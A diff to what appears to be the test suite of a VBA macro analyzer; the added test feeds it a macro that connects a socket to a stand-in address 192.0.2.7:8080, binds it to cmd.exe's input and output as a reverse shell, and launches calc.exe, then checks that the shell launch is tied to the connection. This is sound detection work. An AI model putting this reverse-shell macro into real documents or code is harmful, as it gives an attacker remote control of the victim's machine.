@@ -502,6 +502,33 @@ def test_connections():
     assert outcome.effects() == [("connect", "c2.example.test:4444"), ("connect", "192.0.2.7:8080")]
 
 
+def test_shells_that_talk_to_a_socket():
+    outcome = run(
+        """
+        Dim where As SOCKADDR, start As STARTUP
+        s = OpenSocket(2, 1, 6)
+        where.sin_family = 2: where.sin_port = htons(8080): where.sin_addr = inet_addr("192.0.2.7")
+        x = Connect2(s, where, 16)
+        start.flags = 256: start.inward = s: start.outward = s
+        x = CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, start, 0)
+        start.inward = 0: start.outward = 0
+        x = CreateProcessA(0, "calc.exe", 0, 0, 1, 0, 0, 0, start, 0)
+        """,
+        before=SOCKETS + "Private Type STARTUP\nunused(14) As Long\nflags As Long\nshow As Integer\nmore As LongPtr\ninward As LongPtr\n"
+        "outward As LongPtr\nerrors As LongPtr\nEnd Type\n"
+        + declare("OpenSocket", "ws2_32", "ByVal a As Long, ByVal b As Long, ByVal c As Long", "socket")
+        + declare(
+            "CreateProcessA",
+            "kernel32",
+            "ByVal program As LongPtr, ByVal command As String, ByVal a As LongPtr, ByVal t As LongPtr, ByVal i As Long, ByVal f As Long, "
+            "ByVal e As LongPtr, ByVal d As LongPtr, startup As STARTUP, ByVal p As LongPtr",
+        ),
+    )
+    assert outcome.effects() == [("connect", "192.0.2.7:8080"), ("run", "cmd.exe"), ("run", "calc.exe")]
+    runs = [f for f in outcome.facts if f.kind == "effect.run"]
+    assert [f.detail.get("connection") for f in runs] == ["192.0.2.7:8080", None]
+
+
 def test_functions_that_are_written_over():
     outcome = run(
         """
